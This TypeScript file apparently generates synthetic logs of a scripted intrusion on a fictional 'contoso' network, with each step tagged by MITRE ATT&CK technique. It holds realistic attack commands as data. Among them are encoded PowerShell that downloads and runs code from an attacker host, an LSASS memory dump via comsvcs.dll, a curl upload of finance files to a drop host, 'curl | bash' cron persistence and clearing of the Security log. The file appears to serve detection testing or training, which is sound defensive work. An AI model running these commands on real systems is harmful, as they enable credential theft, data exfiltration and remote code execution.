import { ATTACKER, at, MINUTE, SERVERS, WORKSTATIONS } from './contoso.ts';
import { encoded } from './decoys.ts';
import type { Journal, Story } from './journal.ts';
import { firewall, signIn, syslog } from './other-logs.ts';
import type { Random } from './random.ts';
import { logon, securityEvent, ticket } from './security-log.ts';
import { domainUser, type Process, SYSTEM, type WindowsHost } from './windows-host.ts';
import type { Desktop } from './workday.ts';

const SYSTEM32 = 'C:\\Windows\\System32';
const POWERSHELL = `${SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
/** A call trace of code that was put into memory: its last part lies in no module. */
const UNBACKED_TRACE =
  'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(000001D3A6F1A2C7)';

function attack(id: string, title: string, ...techniques: string[]): Story {
  return { id, kind: 'attack', title, techniques };
}

interface Scene {
  readonly journal: Journal;
  readonly random: Random;
  readonly host: (name: string) => WindowsHost;
  readonly desktop: Desktop;
}

const VICTIM = WORKSTATIONS[2]!;
const VICTIM_USER = 'c.ito';

/** Processes of the intrusion that alerts name. */
export interface IntrusionTraces {
  /** The encoded PowerShell that the document started. */
  readonly shell: Process;
  readonly implant: Process;
  /** What wrote the memory of LSASS to a file. */
  readonly dumper: Process;
  /** PowerShell on the file server, started by the service. */
  readonly service: Process;
  /** What cleared the log. */
  readonly eraser: Process;
}

/** The intrusion, step by step. */
export function tellIntrusion(scene: Scene): IntrusionTraces {
  const { journal } = scene;
  const tell = <T>(story: Story, part: () => T) => journal.during(story, part);
  const { shell, implant } = tell(
    attack(
      'A1',
      'A phishing document starts hidden, encoded PowerShell',
      'T1566.001',
      'T1204.002',
      'T1059.001',
      'T1027.010',
    ),
    () => phishing(scene),
  );
  tell(attack('A2', 'The implant stays: Run key and scheduled task', 'T1547.001', 'T1053.005'), () =>
    persist(scene, implant),
  );
  tell(attack('A3', 'The implant calls home every minute', 'T1071.001', 'T1573'), () => beacon(scene, implant));
  tell(attack('A4', 'Discovery of user, system and domain', 'T1033', 'T1082', 'T1087.002', 'T1482', 'T1018'), () =>
    discover(scene, implant),
  );
  const dumper = tell(attack('A5', 'Credentials are taken from LSASS', 'T1003.001'), () =>
    dumpCredentials(scene, implant),
  );
  tell(
    attack(
      'A6',
      'One password is tried on many accounts; tickets are asked for with weak encryption',
      'T1110.003',
      'T1558.003',
    ),
    () => spray(scene),
  );
  const service = tell(
    attack('A7', 'Lateral movement to the file server and the database', 'T1021.002', 'T1569.002', 'T1047'),
    () => move(scene),
  );
  tell(attack('A8', 'The finance share is packed and uploaded', 'T1560.001', 'T1048', 'T1567.002'), () =>
    exfiltrate(scene),
  );
  tell(attack('A9', 'A Linux server is taken with the same account', 'T1021.004', 'T1059.004', 'T1053.003'), () =>
    takeLinux(scene),
  );
  tell(attack('A10', 'Sign-in to the mailbox from abroad after many prompts', 'T1078.004', 'T1621'), () =>
    signInFromAbroad(scene),
  );
  const eraser = tell(attack('A11', 'Logs are cleared', 'T1070.001'), () => clearLogs(scene));
  return { shell, implant, dumper, service, eraser };
}

function phishing({ host, desktop }: Scene): { shell: Process; implant: Process } {
  const station = host('ws03');
  const user = domainUser(VICTIM_USER);
  const file = `C:\\Users\\${VICTIM_USER}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2H9ZD\\Invoice_4471.docm`;
  station.writeFile(at(9, 12, 41), desktop.outlook, file);
  const word = station.start(at(9, 12, 44), desktop.outlook, WORD, `"${WORD}" /n "${file}" /o ""`, user);
  const launcher = `$ErrorActionPreference='SilentlyContinue';$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('https://${ATTACKER.commandHost}/a/stage.ps1')`;
  const command = `powershell.exe -nop -w hidden -enc ${encoded(launcher)}`;
  const shell = station.start(at(9, 13, 5), word, POWERSHELL, command, user);
  station.script(at(9, 13, 6), launcher);
  station.resolve(at(9, 13, 6), shell, ATTACKER.commandHost, ATTACKER.commandIp);
  station.connect(at(9, 13, 7), shell, ATTACKER.commandIp, 443, ATTACKER.commandHost);
  const path = `C:\\Users\\${VICTIM_USER}\\AppData\\Local\\Temp\\svcupd.exe`;
  station.writeFile(at(9, 13, 19), shell, path);
  const implant = station.start(at(9, 13, 24), shell, path, `"${path}" -k netupd`, user);
  station.stop(at(9, 13, 31), shell);
  return { shell, implant };
}

function persist({ host }: Scene, implant: Process): void {
  const station = host('ws03');
  station.setValue(
    at(9, 14, 2),
    implant,
    'HKU\\S-1-5-21-1004336348-1177238915-682003330-1103\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\NetUpdate',
    `"${implant.image}" -k netupd`,
  );
  const command = `schtasks /create /tn "\\Microsoft\\NetUpdate" /tr "${implant.image} -k netupd" /sc onlogon /f`;
  station.run(at(9, 14, 10), implant, `${SYSTEM32}\\schtasks.exe`, command, implant.user, 400);
}

function beacon({ journal, host, random }: Scene, implant: Process): void {
  const station = host('ws03');
  for (let time = at(9, 14); time < at(12, 20); time += MINUTE + random.between(-4000, 4000)) {
    station.connect(time, implant, ATTACKER.commandIp, 443, ATTACKER.commandHost);
    const flow = { from: VICTIM.ip, to: ATTACKER.commandIp, port: 443, host: ATTACKER.commandHost };
    firewall(journal, time + 40, 51_000 + random.below(9000), {
      ...flow,
      sent: random.between(620, 660),
      received: random.between(300, 340),
    });
  }
}

function discover({ host }: Scene, implant: Process): void {
  const station = host('ws03');
  const shell = station.start(at(9, 21), implant, `${SYSTEM32}\\cmd.exe`, `${SYSTEM32}\\cmd.exe`);
  const commands = [
    ['whoami.exe', 'whoami /all'],
    ['systeminfo.exe', 'systeminfo'],
    ['ipconfig.exe', 'ipconfig /all'],
    ['net.exe', 'net group "Domain Admins" /domain'],
    ['nltest.exe', 'nltest /dclist:contoso.example'],
    ['tasklist.exe', 'tasklist /svc'],
    ['net.exe', 'net view /domain'],
  ] as const;
  commands.forEach(([image, command], i) => {
    station.run(at(9, 21, 10 + i * 23), shell, `${SYSTEM32}\\${image}`, command, implant.user, 1500);
  });
}

function dumpCredentials({ host }: Scene, implant: Process): Process {
  const station = host('ws03');
  station.access(at(10, 2, 11), implant, station.lsass, '0x1010', UNBACKED_TRACE);
  const dump = `rundll32.exe ${SYSTEM32}\\comsvcs.dll, MiniDump 692 C:\\Windows\\Temp\\dbg.tmp full`;
  const process = station.start(at(10, 3, 40), implant, `${SYSTEM32}\\rundll32.exe`, dump, SYSTEM);
  station.access(
    at(10, 3, 41),
    process,
    station.lsass,
    '0x1fffff',
    `C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|${SYSTEM32}\\KERNELBASE.dll+2c13e|${SYSTEM32}\\comsvcs.dll+2a1f4`,
  );
  station.writeFile(at(10, 3, 42), process, 'C:\\Windows\\Temp\\dbg.tmp');
  station.stop(at(10, 3, 44), process);
  return process;
}

function spray({ journal }: Scene): void {
  const from = { ip: VICTIM.ip, workstation: VICTIM.name };
  const names = [
    'adm.larsen',
    'svc-sql',
    'svc-deploy',
    'svc-web',
    'adm.novak',
    'k.lindqvist',
    'h.kowalski',
    'svc-backup',
    'a.weber',
  ];
  names.forEach((user, i) => {
    logon(journal, SERVERS.dc.name, at(10, 18, i * 3), user, 3, from, true);
  });
  logon(journal, SERVERS.dc.name, at(10, 18, 40), 'svc-deploy', 3, from);
  ['MSSQLSvc/sql01', 'svc-web', 'svc-backup', 'svc-print'].forEach((service, i) => {
    ticket(journal, SERVERS.dc.name, at(10, 22, i), VICTIM_USER, service, VICTIM.ip, '0x17');
  });
}

function move({ journal, host }: Scene): Process {
  const from = { ip: VICTIM.ip, workstation: VICTIM.name };
  logon(journal, SERVERS.files.name, at(10, 31), 'svc-deploy', 3, from);
  const files = host('fs01');
  const command = `%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -enc ${encoded(`IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER.commandIp}/a/s2.ps1')`)}`;
  files.installService(at(10, 31, 8), 'kxpwqzrt', command);
  const shell = files.start(
    at(10, 31, 9),
    files.services,
    `${SYSTEM32}\\cmd.exe`,
    command.replace('%COMSPEC%', `${SYSTEM32}\\cmd.exe`),
    SYSTEM,
  );
  const powershell = files.start(
    at(10, 31, 10),
    shell,
    POWERSHELL,
    command.slice(command.indexOf('powershell.exe')),
    SYSTEM,
  );
  files.connect(at(10, 31, 12), powershell, ATTACKER.commandIp, 80);
  files.stop(at(10, 31, 13), shell);
  const wmi = `wmic /node:sql01 /user:CONTOSO\\svc-deploy process call create "powershell.exe -nop -w hidden -enc ${encoded('whoami; hostname')}"`;
  files.run(at(10, 44), powershell, `${SYSTEM32}\\wbem\\WMIC.exe`, wmi, SYSTEM, 3000);
  logon(journal, SERVERS.sql.name, at(10, 44, 2), 'svc-deploy', 3, {
    ip: SERVERS.files.ip,
    workstation: SERVERS.files.name,
  });
  const sql = host('sql01');
  const provider = sql.running(
    `${SYSTEM32}\\wbem\\WmiPrvSE.exe`,
    `${SYSTEM32}\\wbem\\wmiprvse.exe -secured -Embedding`,
  );
  const remote = sql.start(
    at(10, 44, 3),
    provider,
    POWERSHELL,
    `powershell.exe -nop -w hidden -enc ${encoded('whoami; hostname')}`,
    domainUser('svc-deploy'),
  );
  sql.run(at(10, 44, 5), remote, `${SYSTEM32}\\whoami.exe`, '"C:\\Windows\\system32\\whoami.exe"', remote.user, 500);
  return powershell;
}

function exfiltrate({ journal, host }: Scene): void {
  const files = host('fs01');
  const shell = files.running(
    POWERSHELL,
    `powershell.exe -nop -w hidden -enc ${encoded(`IEX (New-Object Net.WebClient).DownloadString('http://${ATTACKER.commandIp}/a/s2.ps1')`)}`,
  );
  const rar = 'C:\\Windows\\Temp\\rar.exe';
  files.writeFile(at(11, 4), shell, rar);
  files.run(
    at(11, 5),
    shell,
    rar,
    'rar.exe a -r -hpS4mple! C:\\Windows\\Temp\\bk.rar D:\\Departments\\Finance',
    SYSTEM,
    410_000,
  );
  const upload = `curl.exe -s -T C:\\Windows\\Temp\\bk.rar https://${ATTACKER.dropHost}/u/4471`;
  const curl = files.run(at(11, 20), shell, `${SYSTEM32}\\curl.exe`, upload, SYSTEM, 300_000);
  files.resolve(at(11, 20, 1), curl, ATTACKER.dropHost, ATTACKER.dropIp);
  files.connect(at(11, 20, 1), curl, ATTACKER.dropIp, 443, ATTACKER.dropHost);
  firewall(journal, at(11, 25), 53_112, {
    from: SERVERS.files.ip,
    to: ATTACKER.dropIp,
    port: 443,
    host: ATTACKER.dropHost,
    sent: 412_338_190,
    received: 91_022,
  });
}

function takeLinux({ journal }: Scene): void {
  const { name } = SERVERS.web;
  const line = (second: number, process: string, message: string, facility = 'auth') =>
    syslog(journal, name, at(11, 41, second), process, message, { facility, pid: 22_140 });
  line(3, 'sshd', `Accepted password for svc-deploy from ${SERVERS.files.ip} port 49822 ssh2`);
  line(4, 'sshd', 'pam_unix(sshd:session): session opened for user svc-deploy by (uid=0)', 'authpriv');
  line(
    30,
    'sudo',
    `svc-deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c curl -s http://${ATTACKER.commandIp}/x.sh | bash`,
    'authpriv',
  );
  line(44, 'crontab', '(root) REPLACE (root)', 'cron');
  line(45, 'CRON', `(root) CMD (curl -s http://${ATTACKER.commandIp}/x.sh | bash)`, 'cron');
}

function signInFromAbroad({ journal }: Scene): void {
  const base = {
    user: VICTIM_USER,
    app: 'Office 365 Exchange Online',
    ip: ATTACKER.signInIp,
    country: 'BR',
    city: 'Recife',
  };
  for (let i = 0; i < 7; i++) {
    signIn(journal, at(11, 52, i * 8), `a10c0de0-0000-4000-8000-00000000000${i}`, {
      ...base,
      result: 500121,
      risk: 'medium',
    });
  }
  signIn(journal, at(11, 55, 9), 'a10c0de0-0000-4000-8000-00000000000a', { ...base, risk: 'high' });
}

function clearLogs({ journal, host }: Scene): Process {
  const files = host('fs01');
  const shell = files.running(POWERSHELL, 'powershell.exe -nop -w hidden');
  const eraser = files.run(at(12, 10), shell, `${SYSTEM32}\\wevtutil.exe`, 'wevtutil.exe cl Security', SYSTEM, 600);
  securityEvent(journal, SERVERS.files.name, at(12, 10, 1), 1102, {
    Account: SYSTEM,
    SubjectUserName: 'SYSTEM',
    SubjectDomainName: 'NT AUTHORITY',
  });
  return eraser;
}
